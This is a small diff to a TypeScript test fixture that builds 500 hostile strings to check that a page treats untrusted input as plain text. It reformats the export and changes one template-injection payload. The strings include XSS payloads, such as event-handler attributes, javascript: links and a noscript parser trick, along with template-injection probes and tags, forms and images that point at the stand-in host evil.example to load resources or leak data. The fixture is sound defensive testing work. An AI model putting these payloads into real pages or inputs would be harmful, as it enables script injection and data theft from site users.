@@ -10,7 +10,7 @@ const markup = [
   '<link rel=stylesheet href=//evil.example/x.css><base href=//evil.example/>',
   '<form action=//evil.example><input name=password autofocus onfocus=alert(1)>',
   '![picture](http://evil.example/p.png?leak=1) [x](javascript:alert(1))',
-  '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= 7*7 %>',
+  '{{constructor.constructor("alert(1)")()}} #{alert(1)} <%= 7*7 %>',
   '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
 ];
 const odd = [
@@ -52,6 +52,4 @@ const frames = [
 ];
 
 /** 500 texts that would run, leak or break the layout if a page took them for more than text. */
-export const hostileTexts: readonly string[] = frames
-  .flatMap((frame) => [...markup, ...odd].map(frame))
-  .slice(0, 500);
+export const hostileTexts: readonly string[] = frames.flatMap((frame) => [...markup, ...odd].map(frame)).slice(0, 500);
